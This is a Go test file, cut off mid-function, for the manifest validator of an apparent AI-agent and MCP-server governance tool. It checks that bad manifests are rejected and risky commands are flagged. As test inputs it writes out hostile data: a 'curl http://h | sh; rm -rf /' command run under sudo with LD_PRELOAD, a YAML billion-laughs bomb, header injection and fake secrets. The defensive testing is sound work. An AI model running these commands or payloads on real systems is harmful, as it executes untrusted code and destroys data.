package admin_test

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/go-jose/go-jose/v4"

	"rutile/internal/access"
	"rutile/internal/admin"
	"rutile/internal/registry"
)

// example is the manifest of the documentation.
const example = `kind: Agent
id: release-bot
owner: team-platform              # required, accountable
purpose: cut and announce releases
runtime: claude-code
model: any
riskTier: 2                       # 0 low … 3 critical
expires: 2027-06-30
tools: ["github/list_*", "github/create_release", "files/*"]   # standing allow-list: just enough
dataScopes: [source:code]         # what it may carry
keys: [{file: release-bot.jwk}]
---
kind: Server
id: files
owner: team-platform
transport: {stdio: {command: npx, args: ["-y", "@modelcontextprotocol/server-filesystem", "/srv/docs"]}}
dataScopes: [source:docs]
state: sanctioned
classes: {"write_*": {class: write, tier: 2}}
---
kind: Server
id: github
owner: team-dev
transport: {http: {url: "https://mcp.example.com/mcp"}}
credential: {ref: github-token, header: Authorization, value: "Bearer {secret}"}
---
kind: Policy
id: release-window
cedar: |
  forbid (principal, action == Mcp::Action::"github/create_release", resource)
  unless { context.input.tag like "v*" };
`

func jwkPair(t *testing.T) (public, private string) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	a, err := (&jose.JSONWebKey{Key: pub, KeyID: "k1"}).MarshalJSON()
	if err != nil {
		t.Fatal(err)
	}
	b, err := (&jose.JSONWebKey{Key: priv, KeyID: "k1"}).MarshalJSON()
	if err != nil {
		t.Fatal(err)
	}
	return string(a), string(b)
}

func write(t *testing.T, dir, name, text string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestExampleOfTheDocumentationApplies(t *testing.T) {
	dir := t.TempDir()
	public, _ := jwkPair(t)
	write(t, dir, "release-bot.jwk", public)
	docs, err := admin.ParseFiles(write(t, dir, "all.yaml", example))
	if err != nil {
		t.Fatal(err)
	}
	o := open(t)
	plan, err := o.Apply(t.Context(), ann, docs, false)
	if err != nil {
		t.Fatal(err)
	}
	equal(t, "items", len(plan.Items), 4)
	a, _ := o.Current().View.Agent("release-bot")
	if len(a.Keys) != 1 {
		t.Fatalf("keys %s", a.Keys)
	}
	a.Keys = nil
	equal(t, "agent", a, registry.Agent{
		ID: "release-bot", Owner: "team-platform", Purpose: "cut and announce releases", Runtime: "claude-code", Model: "any", RiskTier: 2,
		Expires: time.Date(2027, 7, 1, 0, 0, 0, 0, time.UTC), Tools: []string{"files/*", "github/create_release", "github/list_*"}, DataScopes: []string{"source:code"},
		State: registry.AgentActive, StateBy: "user:ann", Created: day, Changed: day,
	})
	g, _ := o.Current().View.Server("github")
	equal(t, "a server without state starts triaged", g.State, registry.ServerTriaged)
	equal(t, "credential", *g.Credential, registry.CredentialRef{Ref: "github-token", Header: "Authorization", Value: "Bearer {secret}"})
	f, _ := o.Current().View.Server("files")
	equal(t, "classes", f.Classes, map[string]registry.ToolClass{"write_*": {Class: "write", Tier: 2}})
	if o.Current().Set.Digest() == open(t).Current().Set.Digest() {
		t.Error("the policy is not in the compiled set")
	}
}

func TestSecondApplyChangesNothing(t *testing.T) {
	dir := t.TempDir()
	public, _ := jwkPair(t)
	write(t, dir, "release-bot.jwk", public)
	docs, err := admin.ParseFiles(write(t, dir, "all.yaml", example))
	if err != nil {
		t.Fatal(err)
	}
	o := open(t)
	if _, err := o.Apply(t.Context(), ann, docs, false); err != nil {
		t.Fatal(err)
	}
	leaves, gen := len(o.evidence.leaves), o.store.gen
	o = reopen(t, o.store, o.evidence, "")
	docs[0].File = "elsewhere.yaml"
	plan, err := o.Apply(t.Context(), ann, docs, false)
	if err != nil {
		t.Fatal(err)
	}
	if plan.Changes() || plan.Applied {
		t.Errorf("plan %+v", plan)
	}
	equal(t, "leaves", len(o.evidence.leaves), leaves)
	equal(t, "generation", o.store.gen, gen)
	diff, err := o.Diff(t.Context(), docs)
	if err != nil || diff.Changes() {
		t.Errorf("diff %+v %v", diff, err)
	}
}

func TestDiffChangesNothingAndShowsFields(t *testing.T) {
	o := open(t)
	o.apply("kind: Agent\nid: a\nowner: t\npurpose: old\nexpires: 2027-01-01\n")
	leaves, gen := len(o.evidence.leaves), o.store.gen
	plan, err := o.Diff(t.Context(), doc("kind: Agent\nid: a\nowner: t\npurpose: new\nexpires: 2027-01-01\ntools: [files/*]\n"))
	if err != nil {
		t.Fatal(err)
	}
	equal(t, "fields", plan.Items[0].Fields, []admin.FieldChange{
		{Field: "purpose", Before: json.RawMessage(`"old"`), After: json.RawMessage(`"new"`)},
		{Field: "tools", After: json.RawMessage(`["files/*"]`)},
	})
	equal(t, "action", plan.Items[0].Action, admin.ActionUpdate)
	equal(t, "leaves", len(o.evidence.leaves), leaves)
	equal(t, "generation", o.store.gen, gen)
	if plan.Applied || plan.Items[0].Before == plan.Items[0].After {
		t.Errorf("plan %+v", plan)
	}
}

func TestInvalidFileChangesNothingAtAllAndSaysEverything(t *testing.T) {
	o := open(t)
	_, err := o.Apply(t.Context(), ann, []admin.Document{
		{File: "good.yaml", Text: filesServer},
		{File: "bad.yaml", Text: "kind: Agent\nid: Bad_Id\npurpos: typo\n---\nkind: Team\nid: ok\n---\nkind: Server\nid: s\nowner: t\ntransport: {}\n"},
	}, false)
	hasCode(t, "apply", err, access.CodeInvalid,
		`bad.yaml:1:1: owner: is required: add owner: team-name`,
		`bad.yaml:2:5: id: "Bad_Id" cannot be an id`,
		`bad.yaml:3:1: purpos: unknown key: do you mean "purpose"?`,
		`bad.yaml:11:12: transport: must have exactly one of http and stdio`,
		"nothing was changed")
	equal(t, "problems", len(admin.ProblemsOf(err)), 4)
	equal(t, "generation", o.store.gen, uint64(0))
	equal(t, "leaves", len(o.evidence.leaves), 0)
}

func TestManifestsThatAreRefused(t *testing.T) {
	agent := func(s string) string { return "kind: Agent\nid: a\nowner: t\n" + s }
	http := func(s string) string { return "kind: Server\nid: s\nowner: t\ntransport:\n  http:\n" + s }
	stdio := func(s string) string {
		return "kind: Server\nid: s\nowner: t\ntransport:\n  stdio:\n    command: x\n" + s
	}
	good := http("    url: https://h/mcp\n")
	for name, c := range map[string]struct{ text, want string }{
		"no kind":                    {"id: a\n", "m.yaml:1:1: kind: is required"},
		"unknown kind":               {"kind: Robot\n", `m.yaml:1:7: kind: unknown kind "Robot"`},
		"Entitlement":                {"kind: Entitlement\n", "m.yaml:1:1: owner: is required"},
		"Label":                      {"kind: Label\n", "id: is required: add id: source:code"},
		"Issuer":                     {"kind: Issuer\n", "not supported"},
		"Webhook":                    {"kind: Webhook\n", "m.yaml:1:1: url: is required"},
		"a list":                     {"- a\n", "m.yaml:1:1: a manifest is a mapping"},
		"text":                       {"hello\n", "a manifest is a mapping"},
		"nothing":                    {"# nothing\n", "there is no manifest"},
		"no id":                      {"kind: Team\n", "id: is required"},
		"id in capitals":             {"kind: Team\nid: A\n", `m.yaml:2:5: id: "A" cannot be an id`},
		"id too long":                {"kind: Team\nid: " + strings.Repeat("a", 64) + "\n", "cannot be an id"},
		"id number":                  {"kind: Team\nid: 12\n", "id: must be text, not a number: put it in quotes"},
		"id null":                    {"kind: Team\nid:\n", "id: is empty"},
		"id bool":                    {"kind: Team\nid: true\n", "id: must be text, not true or false"},
		"id with a path":             {"kind: Team\nid: ../x\n", "cannot be an id"},
		"unknown key":                {agent("colour: red\n"), "m.yaml:4:1: colour: unknown key; known are kind, id"},
		"key in other case":          {agent("Purpose: x\n"), `do you mean "purpose"?`},
		"duplicate key":              {agent("purpose: a\npurpose: b\n"), "m.yaml:5:1: purpose: the key is there twice"},
		"duplicate quoted key":       {agent("purpose: a\n\"purpose\": b\n"), "the key is there twice"},
		"duplicate kind":             {agent("kind: Server\n"), "kind: the key is there twice"},
		"duplicate object":           {"kind: Team\nid: a\n---\nkind: Team\nid: a\n", `Team "a" is declared twice, first at m.yaml:1`},
		"owner a list":               {"kind: Agent\nid: a\nowner: [t]\n", "owner: must be text, not a list"},
		"tier too high":              {agent("riskTier: 4\n"), "riskTier: must be a whole number from 0 to 3"},
		"tier negative":              {agent("riskTier: -1\n"), "riskTier: must be"},
		"tier fraction":              {agent("riskTier: 1.5\n"), "riskTier: must be"},
		"tier text":                  {agent("riskTier: high\n"), "riskTier: must be"},
		"tier quoted":                {agent("riskTier: \"2\"\n"), "riskTier: must be"},
		"date":                       {agent("expires: tomorrow\n"), "expires: must be a day such as 2027-06-30"},
		"date of no calendar":        {agent("expires: 2027-02-30\n"), "expires: must be a day"},
		"date nothing can keep":      {agent("expires: 9999-12-31\n"), "m.yaml:4:10: expires: must be a day"},
		"time nothing can keep":      {good + "baseline: {tool: \"9999-12-31T23:59:59-14:00\"}\n", "baseline.tool: must be a time"},
		"date with time":             {agent("expires: 2027-02-20T10:00:00Z\n"), "expires: must be a day"},
		"tools text":                 {agent("tools: files/*\n"), "tools: must be a list, not text"},
		"tools without server":       {agent("tools: [read]\n"), "m.yaml:4:9: tools[0]:"},
		"tools with bad server":      {agent("tools: [\"x/y\", \"A B/y\"]\n"), "m.yaml:4:16: tools[1]:"},
		"tools twice":                {agent("tools: [a/b, a/b]\n"), `tools[1]: "a/b" is there twice`},
		"tools with requests":        {agent("tools: [a/requests/sampling]\n"), "tools[0]:"},
		"tools null":                 {agent("tools: [~]\n"), "tools[0]: is empty"},
		"scope":                      {agent("dataScopes: [code]\n"), `"code" is not a data scope`},
		"agent state":                {agent("state: expired\n"), `state: "expired" is unknown: use active`},
		"invisible text":             {agent("purpose: \"a\\u200bb\"\n"), "purpose: holds the invisible character U+200B"},
		"reordered text":             {agent("purpose: \"a\\u202eb\"\n"), "U+202E"},
		"line break in text":         {agent("purpose: \"a\\nb\"\n"), "U+000A"},
		"long text":                  {agent("purpose: " + strings.Repeat("x", 20<<10) + "\n"), "has more than 16384 bytes"},
		"server without transport":   {"kind: Server\nid: s\nowner: t\n", "transport: is required"},
		"server without owner":       {"kind: Server\nid: s\ntransport: {http: {url: https://h}}\n", "owner: is required"},
		"sanctioned without owner":   {"kind: Server\nid: s\nstate: sanctioned\ntransport: {http: {url: https://h}}\n", "owner: is required"},
		"reserved id":                {"kind: Server\nid: rutile\nowner: t\ntransport: {http: {url: https://h}}\n", `"rutile" is reserved`},
		"two transports":             {http("    url: https://h\n  stdio: {command: x}\n"), "exactly one of http and stdio"},
		"no url":                     {http("    headers: {}\n"), "transport.http.url: is required"},
		"tls file not absolute":      {http("    url: https://h\n    tls: {ca: ca.pem}\n"), "m.yaml:7:15: transport.http.tls.ca: must be an absolute path"},
		"tls content":                {http("    url: https://h\n    tls: {key: \"-----BEGIN EC PRIVATE KEY----- AAAA\"}\n"), "transport.http.tls.key: must be the path of a PEM file"},
		"half a certificate":         {http("    url: https://h\n    tls: {cert: /c.pem}\n"), "transport.http.tls: cert and key belong together"},
		"tls without https":          {http("    url: http://h\n    tls: {ca: /c.pem}\n"), "transport.http.tls: has no meaning for an http:// url"},
		"tls unverified":             {http("    url: https://h\n    tls: {insecure: true}\n"), "transport.http.tls.insecure: unknown"},
		"server name":                {http("    url: https://h\n    tls: {serverName: \"a b\"}\n"), "serverName: is not a host name"},
		"sse that is a word":         {http("    url: https://h\n    sse: on\n"), "transport.http.sse: must be true or false"},
		"sse in another case":        {http("    url: https://h\n    sse: True\n"), "transport.http.sse: must be true or false"},
		"proxy with password":        {http("    url: https://h\n    proxy: http://u:hunter2@p:1\n"), "transport.http.proxy: must not hold a user name or password"},
		"proxy of another scheme":    {http("    url: https://h\n    proxy: socks5://p:1\n"), "transport.http.proxy: is not the address of a proxy"},
		"proxy with path":            {http("    url: https://h\n    proxy: http://p:1/x\n"), "proxy: must end after the port"},
		"url without scheme":         {http("    url: mcp.example.com\n"), "is not a URL"},
		"url of a file":              {http("    url: file:///etc/passwd\n"), "is not a URL"},
		"url of another scheme":      {http("    url: ftp://h/x\n"), "must start with https://"},
		"url with user":              {http("    url: https://u:hunter2@h/\n"), "m.yaml:6:10: transport.http.url: must not hold a user name or password: store it with `rutile credential set"},
		"url with user only":         {http("    url: https://u@h/\n"), "must not hold a user name"},
		"url with fragment":          {http("    url: \"https://h/#x\"\n"), "must not hold a fragment"},
		"url with empty fragment":    {http("    url: \"https://h/#\"\n"), "must not hold a fragment"},
		"url with token":             {http("    url: https://h/?api_key=abcdef123456\n"), `holds what looks like a secret in "api_key"`},
		"url with camel token":       {http("    url: https://h/?accessToken=abcdef123456\n"), "looks like a secret"},
		"url with secret path":       {http("    url: https://h/ghp_abcdefghijklmnopqrstuvwxyz0123456789\n"), "looks like a secret"},
		"url that wraps":             {http("    url: https://h/https://other\n"), "another URL in its path"},
		"authorization header":       {http("    url: https://h\n    headers: {Authorization: Basic abc}\n"), "headers.Authorization: store it with `rutile credential set"},
		"cookie header":              {http("    url: https://h\n    headers: {cookie: a=b}\n"), "store it with"},
		"secret header":              {http("    url: https://h\n    headers: {X-Auth-Token: abcdefgh}\n"), "looks like a secret"},
		"secret by form":             {http("    url: https://h\n    headers: {X-Plain: sk-abcdefghijklmnopqrst}\n"), "looks like a secret"},
		"host header":                {http("    url: https://h\n    headers: {Host: other}\n"), "is set by the gateway"},
		"mcp header":                 {http("    url: https://h\n    headers: {mcp-name: x}\n"), "is set by the gateway"},
		"header name":                {http("    url: https://h\n    headers: {\"a b\": x}\n"), "is not a header name"},
		"header injection":           {http("    url: https://h\n    headers: {X-A: \"a\\r\\nB: c\"}\n"), "invisible character U+000D"},
		"no command":                 {"kind: Server\nid: s\nowner: t\ntransport: {stdio: {args: [a]}}\n", "transport.stdio.command: is required"},
		"empty command":              {"kind: Server\nid: s\nowner: t\ntransport: {stdio: {command: \"\"}}\n", "command: is empty"},
		"blank command":              {"kind: Server\nid: s\nowner: t\ntransport: {stdio: {command: \" \"}}\n", "must not start or end with a space"},
		"relative dir":               {stdio("    dir: ../x\n"), "dir: must be an absolute path"},
		"secret env":                 {stdio("    env: {GITHUB_TOKEN: abcdefghij}\n"), "env.GITHUB_TOKEN: looks like a secret: store it with `rutile credential set"},
		"env name":                   {stdio("    env: {\"A-B\": x}\n"), "is not the name of an environment variable"},
		"env number":                 {stdio("    env: {PORT: 80}\n"), "env.PORT: must be text, not a number: put it in quotes"},
		"secret argument":            {stdio("    args: [\"--api-key=abcdefghij\"]\n"), "args[0]: looks like a secret, which every process"},
		"secret in the next one":     {stdio("    args: [\"--token\", \"abcdefghij\"]\n"), "args[1]: looks like a secret"},
		"secret variable argument":   {stdio("    args: [run, \"-e\", \"GITHUB_TOKEN=abcdefghij\"]\n"), "args[2]: looks like a secret"},
		"secret after one dash":      {stdio("    args: [\"-password\", \"abcdefghij\"]\n"), "args[1]: looks like a secret"},
		"password in a URL argument": {stdio("    args: [\"postgres://u:abcdefghij@h/db\"]\n"), "args[0]: looks like a secret"},
		"credential without ref":     {good + "credential: {header: X-Key}\n", "credential.ref: is required"},
		"credential without secret":  {good + "credential: {ref: r, header: X-Key, value: hunter22hunter}\n", "credential.value: must hold {secret} exactly once"},
		"credential with two":        {good + "credential: {ref: r, header: X-Key, value: \"{secret}{secret}\"}\n", "exactly once"},
		"credential with literal":    {good + "credential: {ref: r, header: X-Key, value: \"{secret} ghp_abcdefghijklmnopqrstuvwxyz\"}\n", "looks like a secret"},
		"credential env for http":    {good + "credential: {ref: r, env: KEY}\n", "an http server takes its credential in a header"},
		"credential header stdio":    {stdio("") + "credential: {ref: r, header: X-Key}\n", "a stdio server takes its credential in a variable"},
		"credential header twice":    {http("    url: https://h\n    headers: {X-K: v}\n") + "credential: {ref: r, header: x-k}\n", "is fixed in transport.http.headers too"},
		"credential managed header":  {good + "credential: {ref: r, header: Host}\n", "is not the name of a header that can carry"},
		"credential ref":             {good + "credential: {ref: \"My Key\", header: X-K}\n", "cannot be the name of a credential"},
		"class":                      {good + "classes: {x: {class: admin, tier: 1}}\n", `class "admin" is not read, write or destroy`},
		"label":                      {good + "labels: {x: [private]}\n", `"private" is no label: use untrusted, public, pii, secret or kind:name`},
		"labels of nothing":          {good + "labels: {'': [secret]}\n", "is not a pattern of tool names"},
		"class without tier":         {good + "classes: {x: {class: read}}\n", "classes.x.tier: is required"},
		"class tier":                 {good + "classes: {x: {class: read, tier: 9}}\n", "tier: must be a whole number"},
		"a range of versions":        {good + "version: ^1.2.0\n", `version: must be an exact version`},
		"a version with a wildcard":  {good + "version: 1.x\n", `version: must be an exact version`},
		"the version latest":         {good + "version: latest\n", `version: must be an exact version`},
		"a long description":         {good + "description: " + strings.Repeat("é", 101) + "\n", `at most 100 characters`},
		"a description of two lines": {good + "description: \"a\\nb\"\n", `invisible character`},
		"it replaces itself":         {good + "replacement: s\n", `is not the id of another server`},
		"pinning":                    {good + "pinning: off\n", `"off" is unknown: use enforce, observe`},
		"server state":               {good + "state: approved\n", `"approved" is unknown`},
		"policy without text":        {"kind: Policy\nid: p\n", "cedar: is required"},
		"empty policy":               {"kind: Policy\nid: p\ncedar: \"  \"\n", "cedar: is empty"},
		"folded policy":              {"kind: Policy\nid: p\ncedar: >\n  permit(principal,action,resource);\n", "must not be folded"},
		"baseline layer":             {"kind: Policy\nid: p\nlayer: baseline\ncedar: permit(principal,action,resource);\n", `"baseline" is unknown`},
		"hidden in policy":           {"kind: Policy\nid: p\ncedar: |\n  // a\n  permit(principal,action,resource); // \u202e x\n", "m.yaml:5:1: cedar: holds the invisible character U+202E"},
		"anchor":                     {agent("purpose: &x a\n"), "m.yaml:4:10: anchors, aliases and merge keys are not allowed"},
		"alias":                      {agent("purpose: *x\n"), "anchors, aliases and merge keys are not allowed"},
		"merge key":                  {agent("<<: {purpose: x}\n"), "m.yaml:4:1: anchors, aliases and merge keys"},
		"tag":                        {agent("purpose: !!str 12\n"), "explicit tags such as"},
		"own tag":                    {agent("purpose: !go/exec ls\n"), "explicit tags"},
		"binary":                     {agent("purpose: !!binary aGk=\n"), "explicit tags"},
		"tab":                        {"kind: Team\nid: a\nmembers:\n\t- x\n", "m.yaml:4:1: not YAML here: indent with spaces, not tabs"},
		"unclosed":                   {"kind: Team\nid: [\n", "not YAML here"},
		"not UTF-8":                  {"kind: Team\nid: a\nmembers: [\xff]\n", "m.yaml:3:11: the file is not UTF-8 here"},
		"UTF-16":                     {"\xff\xfek\x00i\x00", "m.yaml:1:1: the file is not UTF-8"},
		"control character":          {"kind: Team\nid: \"a\x01\"\n", "not YAML here"},
		"huge":                       {"# " + strings.Repeat("x", admin.MaxFile), "the file has more than 8388608 bytes"},
		"deep":                       {"a: " + strings.Repeat("[", 100_000), "not YAML here"},
		"complex key":                {"? [a]\n: b\nkind: Team\nid: a\n", "a key must be text, not a list"},
		"pin of another definition":  {good + "pins: [{name: a, digest: \"sha256:00\", class: {class: read, tier: 0}, definition: '{\"name\":\"a\"}'}]\n", "pins[0].digest: is not the digest of the definition"},
		"pin of another name":        {good + "pins: [{name: b, digest: x, class: {class: read, tier: 0}, definition: '{\"name\":\"a\"}'}]\n", "definition: the definition must be an object whose name is its name"},
		"pin without definition":     {good + "pins: [{name: b}]\n", "pins[0].definition: is required"},
		"pin pending":                {good + "pins: [{name: b, state: pending}]\n", `"pending" is unknown`},
		"pin approved with no class": {good + "pins: [{name: b, digest: x, definition: '{\"name\":\"b\"}'}]\n", "pins[0].class: is required"},
	} {
		o := open(t)
		_, err := o.Apply(t.Context(), ann, doc(c.text), false)
		hasCode(t, name, err, access.CodeInvalid, c.want)
		if o.store.gen != 0 || len(o.evidence.leaves) != 0 {
			t.Errorf("%s: something was changed", name)
		}
		for _, secret := range []string{"hunter2", "abcdef123456", "ghp_", "sk-abc", "abcdefghij"} {
			if err != nil && strings.Contains(err.Error(), secret) {
				t.Errorf("%s: the message shows the secret: %v", name, err)
			}
		}
	}
}

func TestBillionLaughsCostsNothing(t *testing.T) {
	var b strings.Builder
	b.WriteString("kind: Team\nid: a\nl0: &l0 [x,x,x,x,x,x,x,x,x]\n")
	for i := 1; i < 60; i++ {
		fmt.Fprintf(&b, "l%d: &l%d [*l%d,*l%d,*l%d,*l%d,*l%d,*l%d,*l%d,*l%d,*l%d]\n", i, i, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1)
	}
	o := open(t)
	start := time.Now()
	_, err := o.Apply(t.Context(), ann, doc(b.String()), false)
	hasCode(t, "bomb", err, access.CodeInvalid, "anchors, aliases and merge keys are not allowed")
	if d := time.Since(start); d > 10*time.Second { // expanded it would never end
		t.Errorf("took %v", d)
	}
}

func TestWindowsFilesMeanTheSame(t *testing.T) {
	unix, windows := open(t), open(t)
	text := filesServer + "---\nkind: Policy\nid: p\ncedar: |\n  // one\n  forbid (principal, action, resource)\n  when { false };\n"
	unix.apply(text)
	windows.apply("\ufeff" + strings.ReplaceAll(text, "\n", "\r\n"))
	equal(t, "export", windows.export(), unix.export())
}

func TestEmptyDocumentsAreSkipped(t *testing.T) {
	o := open(t)
	p := o.apply("---\n---\nkind: Team\nid: a\n---\n# nothing\n---\n")
	equal(t, "items", len(p.Items), 1)
}

func TestDirectoriesAreReadRecursively(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "a.yaml", "kind: Team\nid: a\n")
	write(t, dir, "sub/deeper/b.yml", "kind: Team\nid: b\n")
	write(t, dir, "notes.txt", "not yaml: [")
	write(t, dir, ".git/c.yaml", "not yaml: [")
	write(t, dir, ".hidden.yaml", "not yaml: [")
	outside := write(t, t.TempDir(), "d.yaml", "not yaml: [")
	if err := os.Symlink(outside, filepath.Join(dir, "link.yaml")); err != nil {
		t.Fatal(err)
	}
	docs, err := admin.ParseFiles(dir, filepath.Join(dir, "a.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	equal(t, "files", len(docs), 2)
	_, err = admin.ParseFiles(filepath.Join(dir, "none.yaml"))
	hasCode(t, "missing file", err, access.CodeNotFound, "none.yaml does not exist")
	_, err = admin.ParseFiles(t.TempDir())
	hasCode(t, "empty directory", err, access.CodeNotFound, "no *.yaml or *.yml file")
	_, err = admin.ParseFiles("/dev/zero")
	hasCode(t, "endless file", err, access.CodeInvalid, "not a regular file")
	big := write(t, t.TempDir(), "big.yaml", strings.Repeat("#", admin.MaxFile+1))
	_, err = admin.ParseFiles(big)
	hasCode(t, "huge file", err, access.CodeTooLarge, "split it")
}

func TestKeysAreReadBesideTheManifest(t *testing.T) {
	dir := t.TempDir()
	public, private := jwkPair(t)
	ec, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	spki, err := x509.MarshalPKIXPublicKey(&ec.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	pkcs8, err := x509.MarshalPKCS8PrivateKey(ec)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "keys/a.jwk", public)
	write(t, dir, "b.pem", string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: spki})))
	write(t, dir, "private.jwk", private)
	write(t, dir, "private.pem", string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: pkcs8})))
	write(t, dir, "shared.jwk", `{"kty":"oct","k":"c2VjcmV0c2VjcmV0c2VjcmV0"}`)
	write(t, dir, "twice.jwk", `{"kty":"OKP","crv":"Ed25519","x":"a","x":"b"}`)
	write(t, dir, "junk.jwk", "hello")
	write(t, dir, "cert.pem", string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: []byte("x")})))
	agent := func(keys string) (registry.Agent, error) {
		path := write(t, dir, "agent.yaml", "kind: Agent\nid: a\nowner: t\nkeys: ["+keys+"]\n")
		docs, err := admin.ParseFiles(path)
		if err != nil {
			return registry.Agent{}, err
		}
		o := open(t)
		if _, err := o.Apply(t.Context(), ann, docs, false); err != nil {
			return registry.Agent{}, err
		}
		a, _ := o.Current().View.Agent("a")
		return a, nil
	}
	a, err := agent("{file: keys/a.jwk}, {file: ./b.pem}")
	if err != nil || len(a.Keys) != 2 {
		t.Fatalf("%s: %v", a.Keys, err)
	}
	for keys, want := range map[string]string{
		"{file: private.jwk}":                      "is a PRIVATE key. It does not belong here",
		"{file: private.pem}":                      "is a PRIVATE key",
		"{file: shared.jwk}":                       "is a PRIVATE key",
		"{file: twice.jwk}":                        "is neither a JWK nor a PEM public key",
		"{file: junk.jwk}":                         "is neither a JWK nor a PEM public key",
		"{file: cert.pem}":                         `is a PEM "CERTIFICATE", not a public key`,
		"{file: none.jwk}":                         `agent.yaml:4:15: keys[0].file: the key file "none.jwk" cannot be read`,
		"{file: keys}":                             "cannot be read",
		"{file: /dev/zero}":                        "cannot be read",
		"{file: keys/a.jwk}, {file: ./keys/a.jwk}": "the same key is there twice",
		"{}":                       "exactly one of file",
		"{file: a, jwk: b}":        "exactly one of file",
		"{jwk: '" + private + "'}": "is a PRIVATE key",
		strings.Repeat("{file: b.pem}, ", 16) + "{file: x.y}": "a list of at most 16 keys",
	} {
		_, err := agent(keys)
		hasCode(t, keys, err, access.CodeInvalid, want)
		var parts struct{ D, X string }
		if json.Unmarshal([]byte(private), &parts) != nil || strings.Contains(err.Error(), parts.D) {
			t.Errorf("%s: the message shows the private key", keys)
		}
	}
}

func TestPolicyMistakesAreSaidWhereTheyAreWritten(t *testing.T) {
	o := open(t)
	text := "kind: Team\nid: t\n---\nkind: Policy\nid: p\ncedar: |\n  permit (principal, action, resource);\n  forbid (principal, action, resource)\n  when { nonsense };\n"
	_, err := o.Apply(t.Context(), ann, doc(text), false)
	hasCode(t, "apply", err, access.CodeInvalid, "m.yaml:9:")
	equal(t, "generation", o.store.gen, uint64(0))
	equal(t, "leaves", len(o.evidence.leaves), 0)
}

func TestApplyNeverLiftsWhatIsHeld(t *testing.T) {
	for _, held := range []registry.Verb{registry.VerbQuarantine, registry.VerbBlock, registry.VerbRetire} {
		for _, want := range []string{"sanctioned", "triaged", "discovered", "deprecated"} {
			o := open(t)
			o.apply(filesServer)
			s, err := o.ChangeServer(t.Context(), ann, "files", held, "found odd")
			if err != nil {
				t.Fatal(err)
			}
			plan := o.apply(strings.Replace(filesServer, "sanctioned", want, 1))
			after, _ := o.Current().View.Server("files")
			equal(t, string(held)+" "+want, after.State, s.State)
			equal(t, "reason", after.StateWhy, "found odd")
			if len(plan.Items[0].Notes) == 0 || !strings.Contains(plan.Items[0].Notes[0], string(s.State)) || plan.Changes() {
				t.Errorf("%s %s: the plan does not say so: %+v", held, want, plan.Items[0])
			}
		}
	}
	for _, held := range []registry.Verb{registry.VerbSuspend, registry.VerbQuarantine, registry.VerbRetire} {
		o := open(t)
		o.apply("kind: Agent\nid: a\nowner: t\n")
		a, err := o.ChangeAgent(t.Context(), ann, "a", held, "odd")
		if err != nil {
			t.Fatal(err)
		}
		plan := o.apply("kind: Agent\nid: a\nowner: t\nstate: active\n")
		after, _ := o.Current().View.Agent("a")
		equal(t, string(held), after.State, a.State)
		if len(plan.Items[0].Notes) == 0 {
			t.Errorf("%s: the plan does not say so", held)
		}
		o.apply("kind: Agent\nid: a\nowner: t\npurpose: still described\n")
		after, _ = o.Current().View.Agent("a")
		equal(t, string(held)+" after a change of fields", after.State, a.State)
	}
}

func TestApplyMayHoldAndMoveForward(t *testing.T) {
	o := open(t)
	o.apply(strings.Replace(filesServer, "state: sanctioned\n", "", 1))
	for _, s := range []registry.ServerState{registry.ServerDeprecated, registry.ServerSanctioned, registry.ServerQuarantined, registry.ServerBlocked, registry.ServerRetired} {
		o.apply(strings.Replace(filesServer, "sanctioned", string(s), 1))
		got, _ := o.Current().View.Server("files")
		equal(t, "state", got.State, s)
	}
	o.apply(strings.ReplaceAll(filesServer, "files", "other"))
	_, err := o.Apply(t.Context(), ann, doc(strings.Replace(strings.ReplaceAll(filesServer, "files", "other"), "sanctioned", "discovered", 1)), false)
	hasCode(t, "backwards", err, access.CodeInvalid, `server "other" is sanctioned and cannot become discovered`)
}

func TestManifestWithoutStateOrEndKeepsThem(t *testing.T) {
	o := open(t)
	o.apply("kind: Agent\nid: a\nowner: t\nriskTier: 3\n")
	a, _ := o.Current().View.Agent("a")
	equal(t, "tier 3 ends after 90 days", a.Expires, time.Date(2027, 2, 23, 0, 0, 0, 0, time.UTC))
	p := o.apply("kind: Agent\nid: a\nowner: t\nriskTier: 0\n")
	b, _ := o.Current().View.Agent("a")
	equal(t, "the end is kept", b.Expires, a.Expires)
	equal(t, "fields", len(p.Items[0].Fields), 1)
	o.apply(filesServer)
	o.apply(strings.Replace(filesServer, "state: sanctioned\n", "", 1))
	s, _ := o.Current().View.Server("files")
	equal(t, "state", s.State, registry.ServerSanctioned)
}

func TestApplyShowsFullCommand(t *testing.T) {
	o := open(t)
	long := strings.Repeat("x", 500)
	plan, err := o.Diff(t.Context(), doc("kind: Server\nid: s\nowner: t\ntransport: {stdio: {command: sudo, args: [bash, -c, \"curl http://h | sh; rm -rf /\", "+long+", /root], env: {LD_PRELOAD: /tmp/x.so, LANG: C}}}\n"))
	if err != nil {
		t.Fatal(err)
	}
	it := plan.Items[0]
	equal(t, "command", it.Runs, []string{"sudo", "bash", "-c", "curl http://h | sh; rm -rf /", long, "/root"})
	all := strings.Join(it.Dangers, "\n")
	for _, w := range []string{"another user", "shell", "rm -rf", "pipes what it fetched", `"/root"`, "sets LD_PRELOAD=/tmp/x.so"} {
		if !strings.Contains(all, w) {
			t.Errorf("no danger says %q: %v", w, it.Dangers)
		}
	}
	if strings.Contains(all, "LANG") {
		t.Errorf("a setting is a danger: %v", it.Dangers)
	}
	plain, err := o.Diff(t.Context(), doc(filesServer))
